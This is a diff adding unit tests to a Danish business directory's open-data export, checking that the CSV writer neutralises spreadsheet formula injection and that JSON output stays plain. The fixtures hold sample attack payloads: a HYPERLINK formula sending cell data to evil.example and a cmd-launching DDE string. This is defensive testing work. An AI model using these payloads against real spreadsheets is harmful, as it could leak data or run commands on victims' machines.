@@ -1,6 +1,6 @@
 import { describe, expect, it } from 'vitest';
 import { isValidCvr } from '../../src/lib/directory/cvr.ts';
-import { toCsv, toPublicRecord } from '../../src/lib/directory/open-data.ts';
+import { csvField, toCsv, toPublicRecord } from '../../src/lib/directory/open-data.ts';
 import { districtPath, districtSlug } from '../../src/lib/content/paths.ts';
 import { businessSchema } from '../../src/lib/content/schemas.ts';
 
@@ -60,4 +60,34 @@ describe('open data', () => {
     expect(header).toBe('navn;cvr;selskabsform;branche;bydel;ydelser;rsv;stiftet;hjemmeside;beskrivelse;side;senest_gennemgaaet');
     expect(row).toBe('"Kooperativet ""Syd""; tryk og grafik";;A.M.B.A.;Medier og kultur;Valby;Tryk og grafisk, Kommunikation og medier;nej;;;"Et fiktivt trykkeri\nmed to linjer.";https://example.dk/virksomheder/syd/;2026-11-29');
   });
+
+  it('neutralises cells a spreadsheet would run as formulas (OWASP CSV injection) and quotes them right', () => {
+    // A partner-submitted entry: each text field starts as a formula would.
+    const hostile = businessSchema.parse({
+      name: '=HYPERLINK("https://evil.example/?"&A1;"Klik")',
+      legalForm: 'A.M.B.A.',
+      sector: 'Handel',
+      district: 'Valby',
+      offers: ['detailhandel'],
+      summary: '@SUM(1+1)*cmd|" /C calc"!A0',
+    });
+    const row = toCsv([toPublicRecord(hostile, 'https://example.dk/virksomheder/x/')], 'Kilde').slice(1).split('\r\n')[2]!;
+    const cells = row.split(/;(?=(?:[^"]*"[^"]*")*[^"]*$)/);
+    expect(cells[0]).toBe(`"'=HYPERLINK(""https://evil.example/?""&A1;""Klik"")"`);
+    expect(cells[9]).toBe(`"'@SUM(1+1)*cmd|"" /C calc""!A0"`);
+    for (const [raw, shown] of [
+      ['=1+1', "'=1+1"], ['+45 12 34 56 78', "'+45 12 34 56 78"], ['-2+3', "'-2+3"], ['@A1', "'@A1"],
+      ['\t=1', "'\t=1"], ['\r=1', "\"'\r=1\""], ['\n=1', "\"'\n=1\""], ['  =1', "'  =1"],
+      ['a;b', '"a;b"'], ['say "hi"', '"say ""hi"""'], ['two\nlines', '"two\nlines"'],
+      ['Kooperativ A.M.B.A.', 'Kooperativ A.M.B.A.'], ['1-2 dage', '1-2 dage'], ['info@example.dk', 'info@example.dk'],
+    ] as const) expect(csvField(raw), JSON.stringify(raw)).toBe(shown);
+  });
+
+  it('keeps the JSON download plain data: formulas stay as typed, and JSON escapes quotes', () => {
+    const json = JSON.stringify(toPublicRecord(businessSchema.parse({
+      name: '=1+1 "</script>', legalForm: 'A.M.B.A.', sector: 'Handel', district: 'Valby', offers: ['detailhandel'], summary: 'x',
+    }), 'https://example.dk/'));
+    expect(JSON.parse(json).navn).toBe('=1+1 "</script>');
+  });
 });
+
